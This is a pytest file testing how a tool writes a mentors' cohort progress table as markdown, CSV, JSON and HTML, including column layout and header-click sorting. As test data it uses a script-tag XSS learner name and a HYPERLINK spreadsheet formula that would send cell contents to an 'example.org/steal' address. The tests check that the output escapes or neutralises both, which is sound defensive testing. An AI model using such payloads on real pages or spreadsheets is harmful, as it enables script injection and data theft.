"""The cohort table as a mentor reads it: cohort.md, cohort.csv, cohort.json, cohort.html."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from checks.cohort import html_page, outputs
from checks.cohort.rows import Row
from tests.docs.browser import CHROMIUM, Chromium, Page
from tests.test_cohort_fakes import results, unchecked

SHOUTY = '<script>alert("owned")</script> & Co'  # a learner's git name is theirs to choose


def cohort() -> list[Row]:
    facts = {"repo": "expense-tracker", "graded": "2025-03-21T10:00:00+00:00"}
    return [
        Row.from_results(
            unchecked("pyproject.toml has no [tool.roadmap] | table"),
            key="/l/cy",
            learner="Cy",
            **facts,
        ),
        Row.from_results(
            results(passing=("01-cli/a",), failing=("01-cli/b", "01-cli/c")),
            key="/l/shouty",
            learner=SHOUTY,
            commit="1a2b3c4",
            date="2025-03-20",
            report="expense-tracker-0a1b2c/report.md",
            newly_passing=["01-cli/a"],
            **facts,
        ),
        Row.from_results(
            results(passing=("01-cli/a", "01-cli/b", "01-cli/c")),
            key="/l/ada",
            learner="Ada",
            commit="9f8e7d6",
            date="2025-03-19",
            report="expense-tracker-d4e5f6/report.md",
            newly_passing=[],
            no_progress_since="2025-03-14",
            **facts,
        ),
    ]


def test_all_four_files_are_written_beside_each_other(tmp_path):
    written = outputs.write_all(cohort(), tmp_path / "reports", None)

    assert sorted(p.name for p in written) == [
        "cohort.csv",
        "cohort.html",
        "cohort.json",
        "cohort.md",
    ]
    rows = json.loads((tmp_path / "reports" / "cohort.json").read_text())
    assert [r["learner"] for r in rows] == ["Cy", SHOUTY, "Ada"]
    assert rows[1]["first_failing"] == "01-cli/b" and rows[1]["passing"] == ["01-cli/a"]


def test_the_markdown_table_has_a_row_per_learner_and_a_progress_column_when_compared():
    table = outputs.markdown(cohort(), "2025-03-14")
    lines = table.splitlines()

    assert lines[2] == (
        "| learner | stage | required passing | status | first failing check | commit | date "
        "| report | since 2025-03-14 |"
    )
    assert lines[4].startswith(
        "| Cy | — | — | error | pyproject.toml has no [tool.roadmap] \\| table"
    )
    assert lines[5].endswith(
        "| 1/3 | fail | `01-cli/b` | `1a2b3c4` | 2025-03-20 "
        "| [report.md](expense-tracker-0a1b2c/report.md) | +1: 01-cli/a |"
    )
    assert lines[6].endswith("| no progress since 2025-03-14 |")
    assert "since" not in outputs.markdown(cohort(), None)


def test_the_csv_opens_in_a_spreadsheet_with_one_row_per_learner():
    rows = list(csv.DictReader(outputs.spreadsheet(cohort()).splitlines()))

    assert [(r["learner"], r["passed"], r["required"], r["status"]) for r in rows] == [
        ("Cy", "0", "0", "error"),
        (SHOUTY, "1", "3", "fail"),
        ("Ada", "3", "3", "pass"),
    ]
    assert rows[1]["first_failing"] == "01-cli/b"
    assert rows[1]["newly_passing"] == "01-cli/a"
    assert (rows[2]["no_progress_since"], rows[2]["commit"]) == ("2025-03-14", "9f8e7d6")


def test_a_name_that_looks_like_a_formula_stays_text_in_a_spreadsheet():
    [row] = cohort()[:1]
    formula = '=HYPERLINK("https://example.org/steal?"&A1, "click")'

    [cells] = csv.DictReader(outputs.spreadsheet([replace(row, learner=formula)]).splitlines())

    assert cells["learner"] == "'" + formula


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of each table cell."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[str] = []
        self.in_cell = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "td":
            self.in_cell = True
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        self.in_cell = self.in_cell and tag != "td"

    def handle_data(self, data: str) -> None:
        if self.in_cell:
            self.cells[-1] += data


def test_the_html_page_is_self_contained_and_escapes_what_learners_wrote():
    page = html_page.render(cohort(), "2025-03-14")
    parsed = Elements()
    parsed.feed(page)

    assert SHOUTY in parsed.cells, "shown as text"
    assert page.count("<script>") == 1, "only our own script"
    assert not any("src" in attrs for _, attrs in parsed.tags), "nothing to fetch"
    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
    assert links == ["expense-tracker-0a1b2c/report.md", "expense-tracker-d4e5f6/report.md"]
    assert not any(tag == "link" for tag, _ in parsed.tags), "no stylesheet to fetch"


@pytest.fixture
def page(tmp_path) -> Iterator[Page]:
    if not CHROMIUM.exists():
        install = "apt-get install -y --no-install-recommends chromium"
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing, so cohort.html was not tested: {install}")
        pytest.skip(f"{CHROMIUM} is not installed ({install})")
    browser = Chromium(tmp_path / "chromium-profile")
    tab = browser.page()
    yield tab
    tab.close()
    browser.close()


@pytest.mark.slow
def test_clicking_a_header_sorts_the_table_by_that_column_and_again_reverses_it(tmp_path, page):
    outputs.write_all(cohort(), tmp_path, "2025-03-14")
    page.goto((tmp_path / "cohort.html").as_uri())

    def learners() -> list[str]:
        return page.evaluate(
            "[...document.querySelectorAll('tbody tr')].map(r => r.cells[0].textContent)"
        )

    assert learners() == ["Cy", SHOUTY, "Ada"], "stuck first, as written"
    page.click("th:nth-child(1)")
    assert learners() == [SHOUTY, "Ada", "Cy"]
    page.click("th:nth-child(1)")
    assert learners() == ["Cy", "Ada", SHOUTY]
    page.click("th:nth-child(3)")  # required passing: a number, and an error below zero
    assert learners() == ["Cy", SHOUTY, "Ada"]
    page.click("th:nth-child(7)")  # date
    assert learners() == ["Cy", "Ada", SHOUTY]
    assert page.evaluate("document.querySelectorAll('script').length") == 1
